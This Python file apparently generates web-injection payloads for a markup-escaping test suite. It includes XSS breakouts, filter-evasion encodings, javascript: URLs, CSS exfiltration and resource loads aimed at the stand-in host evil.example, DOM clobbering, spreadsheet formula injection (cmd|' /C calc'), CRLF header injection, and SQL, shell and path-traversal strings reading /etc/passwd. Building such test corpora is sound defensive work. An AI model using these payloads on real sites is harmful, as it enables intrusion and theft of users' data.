"""Ways out of text, made by rule: each of what runs by itself, from each place that text can stand in, written in each of
the ways that browsers forgive. A family names the place that its payloads break out of; `test_markup.py` first sees them
run on a page that stops nothing."""

import base64
from dataclasses import dataclass

CALL = "hit(1)"
FRAMED = f"parent.{CALL}"
# On an element whose being there is the harm; no element of ours has it.
MARK = "x-hit"
ELSEWHERE = "evil.example"
IMAGE = f"<img src=x onerror={CALL}>"
# What runs by itself, at its shortest.
WAYS = [IMAGE, f"<svg onload={CALL}>", f"<script>{CALL}</script>", f"<iframe srcdoc='<script>{FRAMED}</script>'></iframe>"]

# Where text can stand: § is the text.
PLACES = {
    "text": "<p>§</p>",
    "double quotes": '<p title="§">x</p>',
    "single quotes": "<p title='§'>x</p>",
    "no quotes": "<p title=§>x</p>",
    "handler": "<img src=x onerror=\"var said = '§'\">",
    "address": '<iframe src="§"></iframe>',
    "style attribute": '<p style="color: §">x</p>',
    "frame": '<iframe srcdoc="§"></iframe>',
    "textarea": "<textarea>§</textarea>",
    "title": "<title>§</title>",
    "option": "<select><option>§</option></select>",
    "style": "<style>p { color: § }</style>",
    "script": "<script nonce=bench>var said = '§'</script>",
    "template literal": "<script nonce=bench>var said = `§`</script>",
    "json": '<script nonce=bench type=application/json>{"said": "§"}</script>',
    "comment": "<!-- § -->",
    "svg": "<svg><text>§</text></svg>",
    "cdata": "<svg><![CDATA[§]]></svg>",
    "math": "<math><mtext>§</mtext></math>",
    "noscript": "<noscript>§</noscript>",
    "template": "<template>§</template>",
    "xmp": "<xmp>§</xmp>",
    "noembed": "<noembed>§</noembed>",
    "noframes": "<noframes>§</noframes>",
    "inner frame": "<iframe>§</iframe>",
}


@dataclass(frozen=True)
class Family:
    """Payloads of one kind. Without a place no browser runs them: a template, a spreadsheet, a log or a header would."""

    name: str
    place: str | None
    payloads: list[str]


# Elements that run something without being asked, and those that wait for the person's next movement.

OF_THEMSELVES = [
    ("img src=x", "onerror"), ("img srcset=x", "onerror"), ("svg", "onload"), ("body", "onload"),
    ("video src=x", "onerror"), ("audio src=x", "onerror"), ("video><source src=x", "onerror"),
    ("picture><img src=x", "onerror"), ("input type=image src=x", "onerror"), ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("button autofocus", "onfocus"),
    ("a href=# autofocus", "onfocus"), ("p tabindex=1 autofocus", "onfocusin"), ("details open", "ontoggle"),
    ("marquee", "onstart"), ("iframe", "onload"), ("object data=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"), ("style", "onload"), ("svg><animate attributename=x dur=1s", "onbegin"),
    ("svg><image href=x", "onerror"),
]
WHEN_TOUCHED = [
    "onclick", "onmouseover", "onpointerenter", "onpointerrawupdate", "onwheel", "onscrollend", "oncopy",
    "onbeforeinput",
    "onkeydown", "oncontextmenu", "onauxclick", "onanimationstart", "ontransitionend", "onbeforetoggle", "ondragenter",
    "onsecuritypolicyviolation", "oncontentvisibilityautostatechange", "onformdata", "onselectstart", "onslotchange",
]


def plain(element: str, event: str) -> str:
    return f"<{element} {event}={CALL}>"


def loud(element: str, event: str) -> str:
    return f"<{element.upper()} {event.upper()}=\"{CALL}\">"


def slashed(element: str, event: str) -> str:
    return f"<{element.replace(' ', '/')}/{event}={CALL}//>"


def broken(element: str, event: str) -> str:
    head, _, rest = element.partition(" ")
    return f"<{head}\n{rest}\t{event}\x0c=\n'{CALL}'\n>"


def entities(element: str, event: str) -> str:
    return f"<{element} {event}='&#104;&#x69;&#0000116;&lpar;1&rpar;'>"


def unclosed(element: str, event: str) -> str:
    return f"<{element} {event}={CALL} "


HANDLERS = [write(*way) for way in OF_THEMSELVES for write in (plain, loud, slashed, broken, entities, unclosed)]
TOUCHED = [f"<p contenteditable {event}={CALL}>x</p>" for event in WHEN_TOUCHED]

# The ends of what text can stand in, and what comes behind them.

ENDS = [
    ("textarea", "</textarea>"), ("textarea", "</TEXTAREA\n>"), ("title", "</title>"), ("title", "</title/x>"),
    ("option", "</option></select>"), ("style", "}</style>"), ("style", "</style\t>"), ("script", "</script>"),
    ("script", "</ScRiPt x>"), ("json", '"}</script>'), ("json", "<!--</script>"), ("comment", "-->"),
    ("comment", "--!>"), ("comment", "<!-->"), ("cdata", "]]>"), ("svg", "</text></svg>"), ("math", "</mtext></math>"),
    ("noscript", "</noscript>"), ("template", "</template>"), ("xmp", "</xmp>"), ("noembed", "</noembed>"),
    ("noframes", "</noframes>"), ("inner frame", "</iframe>"), ("double quotes", '">'), ("double quotes", '"/>'),
    ("single quotes", "'>"), ("single quotes", "'/>"), ("no quotes", " x>"),
]
BEHIND_ENDS = [Family(f"behind {end}", place, [end + way for way in WAYS]) for place, end in ENDS]

INSIDE_QUOTES = [
    Family(f"attributes behind {quote or 'a space'}", place, [
        f"x{quote} {attributes} y={quote}" for attributes in (
            f"tabindex=1 autofocus onfocus={CALL}", f"onmouseover={CALL}",
            f"contenteditable onbeforeinput={CALL}", f"style=animation:x onanimationstart={CALL}")])
    for place, quote in (("double quotes", '"'), ("single quotes", "'"), ("no quotes", ""))]

# Scripts that text stands in the middle of.

STRINGS = [
    f"';{CALL}//", f"'-{CALL}-'", f"'+{CALL}+'", f"'|{CALL}|'", f"',{CALL},'", f"'\n{CALL}\n'", f"'\u2028;{CALL}//",
    f"';{CALL};var y='", f"'in {CALL}//", f"'?{CALL}:'", f"'<!--\n{CALL}//",
]
LITERALS = [f"${{{CALL}}}", f"`;{CALL}//", f"`-{CALL}-`", f"${{[1].map(hit)}}", f"`\n{CALL}\n`", f"${{`${{{CALL}}}`}}"]
HANDLER_STRINGS = [
    f"&#39;;{CALL}//", f"&apos;-{CALL}-&apos;", f"&#x27;,{CALL},&#x27;", f"';{CALL}//", f"&#0039;;{CALL};&#0039;",
]

# The same call, as filters of words do not know it.

CALLS = [
    "hit`1`", "(hit)(1)", "window.hit(1)", "self['h'+'it'](1)", "window[/hit/.source](1)", "\\u0068it(1)",
    "\\u{68}it(1)",
    "eval('hit'+'(1)')", "Function('hit(1)')()", "setTimeout('hit(1)')", "[1].map(hit)", "[1].find(hit)",
    "Reflect.apply(hit,null,[1])", "hit.call(0,1)", "hit?.(1)", "void hit(1)", "1?hit(1):0", "({[hit(1)]:1})",
    "new(class{constructor(){hit(1)}})", "(async()=>hit(1))()", "(()=>{hit(1)})()", "location='javascript:hit(1)'",
    "eval(atob('aGl0KDEp'))", "eval(String.fromCharCode(104,105,116,40,49,41))", "throw onerror=hit,1",
    "{hit(1)}", "label:hit(1)", "hit(1)\n", ";;hit(1)//", "/**/hit(1)",
]
CALLED = [carrier.replace("§", call) for call in CALLS for carrier in ('<img src=x onerror="§">', "<script>§</script>")]
SCRIPTS = [
    f"<ScRiPt>{CALL}</sCrIpT>", f"<script/x>{CALL}</script\t>", f"<script\n>{CALL}</script\n>",
    f"<script src=data:text/javascript,{CALL}></script>", f"<script src=//{ELSEWHERE}/x.js></script>",
    f"<script type=module>{CALL}</script>", f"<script async defer>{CALL}</script>", f"<script>//\n{CALL}\n//</script>",
    f"<<script>{CALL}//<</script>", f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<script nonce=>{CALL}</script>",
    f"<script nonce={MARK}>{CALL}</script>", f"<script type=text/javascript;x>{CALL}</script><script>{CALL}</script>",
    f"<script language=vbscript>MsgBox 1</script><script>{CALL}</script>", f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href=data:text/javascript,{CALL}></script></svg>", f"<math><script>{CALL}</script></math>",
    "<script type=importmap>{\"imports\":{\"/\":\"//evil.example/\"}}</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//evil.example/\"]}]}</script>",
]

# Addresses that run, as a browser still reads them, in whatever takes an address.

RUNNING = [
    f"javascript:{FRAMED}", f"JaVaScRiPt:{FRAMED}", f"java\tscript:{FRAMED}", f"java\nscript:{FRAMED}",
    f"\x01javascript:{FRAMED}", f"  javascript:{FRAMED}", f"javascript&colon;{FRAMED}", f"&#106;avascript:{FRAMED}",
    f"&#x6A&#x61vascript:{FRAMED}", f"javascript&#58;{FRAMED}", "javascript:parent.%68it(1)",
    f"javascript://x%0A{FRAMED}", f"data:text/html,<script>{FRAMED}</script>", f"vbscript:{FRAMED}",
]
CARRIERS = [
    '<a href="§">x</a>', '<iframe src="§"></iframe>', '<form action="§"><button>x</button></form>',
    '<button formaction="§">x</button>', '<object data="§"></object>', '<embed src="§">',
    '<svg><a xlink:href="§"><text y=9>x</text></a></svg>', '<meta http-equiv=refresh content="0;url=§">', "[x](§)",
]
CARRIED = [
    carrier.replace("§", address) for number, address in enumerate(RUNNING)
    for carrier in (CARRIERS[number % len(CARRIERS)], CARRIERS[(number + 4) % len(CARRIERS)],
                    CARRIERS[(number + 7) % len(CARRIERS)])]
ADDRESSES = [
    f"//{ELSEWHERE}/x", f"\\\\{ELSEWHERE}\\x", f"/\\{ELSEWHERE}", f"https:{ELSEWHERE}", f"///{ELSEWHERE}", "blob:x",
    f"https://ops@{ELSEWHERE}/", f"view-source:https://{ELSEWHERE}/",
    f"data:text/html;base64,{base64.b64encode(WAYS[2].encode()).decode()}",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
]
FRAMES = [
    f"&lt;img src=x onerror={FRAMED}&gt;", f"&#60;svg onload={FRAMED}&#62;", f"<script>{FRAMED}</script>",
    f"&lt;script&gt;{FRAMED}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{FRAMED}", f"<base href=//{ELSEWHERE}>",
]

# What is harmless as it is read first and not as it is written down and read again.

OUTSIDES = [
    "<math><mtext><mglyph>", "<math><annotation-xml encoding=text/html>", "<svg><desc>", "<svg><foreignObject>",
    "<svg><title>",
    "<table><caption>", "<select>", "<form><form>", "<template>", "<p><svg>", "<dialog open>",
]
RAW = ["style", "noscript", "xmp", "noembed", "title", "textarea", "iframe"]
MUTATING = [
    f"{outside}<{RAW[(number + step) % len(RAW)]}><a title=\"</{RAW[(number + step) % len(RAW)]}>{IMAGE}\">"
    for number, outside in enumerate(OUTSIDES) for step in range(5)]

# Elements that give no script a chance and do harm all the same.

STYLES = [
    f"<style>@import '//{ELSEWHERE}/x.css';</style>", "<style>body{display:none}</style>",
    f"<style>input[value^=a]{{background:url(//{ELSEWHERE}/a)}}</style>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    "<style>@font-face{font-family:x;src:url(//evil.example/x)}</style>", "<style>*{animation:x}@keyframes x{}</style>",
    f"<p style=\"background:url(//{ELSEWHERE}/x)\" {MARK}>x", f"<p style=position:fixed;inset:0 {MARK}>x",
    f"<p style=width:expression({CALL}) {MARK}>x", f"<p style=-moz-binding:url(//{ELSEWHERE}/x) {MARK}>x",
]
STYLE_WORDS = [
    f"red\" onmouseover={CALL} y=\"", f"red;background:url(//{ELSEWHERE}/x)\" {MARK}=\"", f"red\"><p {MARK}>",
    f"url('javascript:{CALL}')\"><p {MARK}>",
]
DOCUMENTS = [
    f"<base href=//{ELSEWHERE}/>", f"<base target=_blank {MARK}>",
    f"<meta http-equiv=refresh content=0;url=//{ELSEWHERE}/>",
    f"<meta http-equiv=content-security-policy content=\"script-src 'none'\" {MARK}>",
    f"<meta name=referrer content=unsafe-url {MARK}>", f"<link rel=prefetch href=//{ELSEWHERE}/>",
    f"<link rel=dns-prefetch href=//{ELSEWHERE}/>", f"<link rel=manifest href=//{ELSEWHERE}/>",
    f"<link rel=import href=//{ELSEWHERE}/>", f"<object data=//{ELSEWHERE}/></object>", f"<embed src=//{ELSEWHERE}/>",
    f"<video src=//{ELSEWHERE}/>", f"<img src=//{ELSEWHERE}/x>", f"<iframe src=//{ELSEWHERE}/></iframe>",
    f"<form action=//{ELSEWHERE}/><input type=password name=password>",
    f"<a href=//{ELSEWHERE}/ ping=//{ELSEWHERE}/>x</a>",
    f"<plaintext {MARK}>", f"<frameset><frame src=//{ELSEWHERE}/></frameset><p {MARK}>", f"<fieldset disabled {MARK}>",
    f"<dialog open {MARK}>Sign in again</dialog>", f"<p popover {MARK}>x", f"<details name=x {MARK}>x",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x onload={CALL}>#x\"/></svg>", f"<h1 {MARK}>You have won</h1>",
]
NAMES_OF_OURS = [
    "_csrf", "_key", "cookie", "forms", "body", "location", "nonce", "currentScript", "defaultView", "elements",
    "action",
    "submit", "method", "hit", "customElements", "parentNode", "querySelector", "getElementById", "addEventListener",
    "attributes", "innerHTML", "__proto__",
]
CLOBBERING = [
    f"<{('form', 'img', 'a', 'input', 'iframe')[number % 5]} {'name' if number % 2 else 'id'}={name} {MARK}>"
    for number, name in enumerate(NAMES_OF_OURS)]

# What is no markup until somebody decodes it once too often.


def each(text: str, write) -> str:
    return "".join(write(letter) for letter in text)


OPEN, CLOSE = f"<img src=x onerror={CALL}", ">"
DECODED = [
    each(IMAGE, lambda c: f"&#{ord(c)};"), each(IMAGE, lambda c: f"&#x{ord(c):x};"),
    each(IMAGE, lambda c: f"&#{ord(c):07}"),
    each(IMAGE, lambda c: f"%{ord(c):02x}"), each(IMAGE, lambda c: f"%25{ord(c):02x}"),
    each(IMAGE, lambda c: f"%u{ord(c):04x}"),
    each(IMAGE, lambda c: f"\\u{ord(c):04x}"), each(IMAGE, lambda c: f"\\x{ord(c):02x}"),
    each(IMAGE, lambda c: f"\\{ord(c):o}"),
    base64.b64encode(IMAGE.encode()).decode(), each(IMAGE, lambda c: chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c),
    *[f"{opening}img src=x onerror={CALL}{closing}" for opening, closing in (
        ("&lt;", "&gt;"), ("&LT", "&GT"), ("&amp;lt;", "&amp;gt;"), ("&#60", "&#62"), ("+ADw-", "+AD4-"), ("%3C", "%3E"),
        ("%C0%BC", "%C0%BE"), ("\u00c0\u00bc", "\u00c0\u00be"), ("%E0%80%BC", "%E0%80%BE"), ("\\74", "\\76"), ("\u2039", "\u203a"),
        ("\u3008", "\u3009"), ("\ufe64", "\ufe65"), ("\u02c2", "\u02c3"), ("\u00ab", "\u00bb"), ("&nvlt;", "&nvgt;"),
        ("<\u0338", ">\u0338"), ("~{", "~}"), ("\x1b(J<", ">"))],
]
# Letters that upper or lower case, or compatibility forms, turn into those of a tag.
CASED = [
    f"<\u017fcript>{CALL}</\u017fcript>", f"<\u017fvg onload={CALL}>", f"<\u0131mg src=x onerror={CALL}>",
    f"<\u0130MG SRC=x ONERROR={CALL}>",
    f"<lin\u212a rel=stylesheet href=x>", f"<\uff53cript>{CALL}</\uff53cript>", f"<\u2170mg src=x onerror={CALL}>",
    f"<s\u1d9cript>{CALL}</script>",
    f"<\U0001d42cvg onload={CALL}>", f"<\u24e2vg onload={CALL}>", f"<i\u217fg src=x onerror={CALL}>",
    f"<\ufb05yle onload={CALL}>",
]
# Invisible, turning and controlling letters, before the tag, in its name, and around it.
INVISIBLE = [
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u061c", "\u180e", "\u200e", "\u200f",
    "\u202a", "\u202b", "\u202c",
    "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u2028", "\u2029", "\x85", "\x7f", "\x1b[31m", "\x08",
    "\x0b", "\x1c", "\xa0",
    "\u3164", "\ufffe", "\U0010ffff", "\U000e0041", "\ufffd", "\u0301\u0301\u0301",
]
HIDDEN = [
    (f"{letter}<script>{CALL}</script>", f"<{letter}script>{CALL}</script>", f"<img{letter}src=x{letter}onerror={CALL}>",
     f"{letter}{IMAGE}{letter}")[number % 4] for number, letter in enumerate(INVISIBLE)]
RIGHT_TO_LEFT = [
    f"{name} {IMAGE}" for name in ("سارة العلي", "דנה כהן", "\u202eسارة\u202c العلي", "\u2067דנה\u2069", "سارة\u200f123", "أ\u064e\u0651حمد")]

# What other programs run: templates, spreadsheets, logs, mail, streams, shells, queries.

TEMPLATES = [
    opening + body + closing for opening, closing in (
        ("{{", "}}"), ("${", "}"), ("<%= ", " %>"), ("#{", "}"), ("{%", "%}"), ("[[", "]]"), ("*{", "}"), ("{{{", "}}}"),
        ("\\(", ")"), ("@(", ")"), ("<#", "#>"), ("{{=", "}}"))
    for body in (CALL, f"constructor.constructor('{CALL}')()")]
FORMULAS = [
    f"=HYPERLINK(\"//{ELSEWHERE}\",\"x\")", "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "=IMPORTXML(\"//evil.example\",\"//a\")", "\uff1d1+1", "\uff0b1",
    "\uff20SUM(1)", "\"=1+1\"",
    "',=1+1", ";=1+1", "=1+1,\"x\"\r\n=2+2", "%0A=1+1",
]
LINES = [
    "x\r\nX-Hit: 1", "x\r\nSet-Cookie: hit=1", f"x\r\n\r\n{IMAGE}", f"x\n\ndata: {IMAGE}", "x\nevent: hit\ndata: 1\n",
    "x\rX-Hit: 1",
    "x%0d%0aX-Hit:%201", "x\u560d\u560aX-Hit: 1", "x\u2028X-Hit: 1", "x\u0085X-Hit: 1",
    "\"}\n{\"level\":\"error\",\"message\":\"hit\"}",
    "x\nBcc: all@evil.example", "x\n.\nMAIL FROM:<>", "--boundary\r\nContent-Type: text/html",
]
WORDS_OF_PROGRAMS = [
    "' OR 1=1--", "'; DROP TABLE note;--", "\\'; SELECT pg_sleep(3);--", "$$ || pg_sleep(3) || $$", "1; COMMIT; --",
    "x & !y | (z <-> w):*", "a:*",
    "!", "<->", "\"unclosed", "-\"x\"", "$(touch /tmp/hit)", "`touch /tmp/hit`", "| touch /tmp/hit",
    "../../../../etc/passwd", "..\\..\\win.ini",
    "file:///etc/passwd", "%s%n%x", "{0}", "\\", "null", "undefined", "__proto__", "constructor", "[object Object]",
    "NaN", "-0", "1e309",
    "*)(uid=*", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "<?xml version='1.0'?><x/>",
    "<?php echo 1 ?>", "<!--#exec cmd=x -->",
]

FAMILIES = [
    Family("handlers", "text", HANDLERS), Family("handlers that wait", "text", TOUCHED), *BEHIND_ENDS, *INSIDE_QUOTES,
    Family("strings", "script", STRINGS), Family("template literals", "template literal", LITERALS),
    Family("strings in handlers", "handler", HANDLER_STRINGS), Family("calls", "text", CALLED),
    Family("scripts", "text", SCRIPTS),
    Family("addresses that run", "address", RUNNING), Family("carried addresses", "text", CARRIED),
    Family("addresses elsewhere", None, ADDRESSES), Family("frames", "frame", FRAMES),
    Family("mutations", "text", MUTATING),
    Family("styles", "text", STYLES), Family("words of a style", "style attribute", STYLE_WORDS),
    Family("documents", "text", DOCUMENTS), Family("clobbering", "text", CLOBBERING),
    Family("invisible letters", "text", HIDDEN),
    Family("right to left", "text", RIGHT_TO_LEFT), Family("decoded twice", None, DECODED),
    Family("other cases", None, CASED),
    Family("templates", None, TEMPLATES), Family("formulas", None, FORMULAS), Family("lines", None, LINES),
    Family("words of programs", None, WORDS_OF_PROGRAMS),
]
ALL = list(dict.fromkeys(payload for family in FAMILIES for payload in family.payloads))
# Text that is no text: a form that holds it is refused as a whole.
REFUSED = [f"\0{IMAGE}", f"<img\0src=x onerror={CALL}>", f"<scr\0ipt>{CALL}</script>", f"java\0script:{CALL}"]
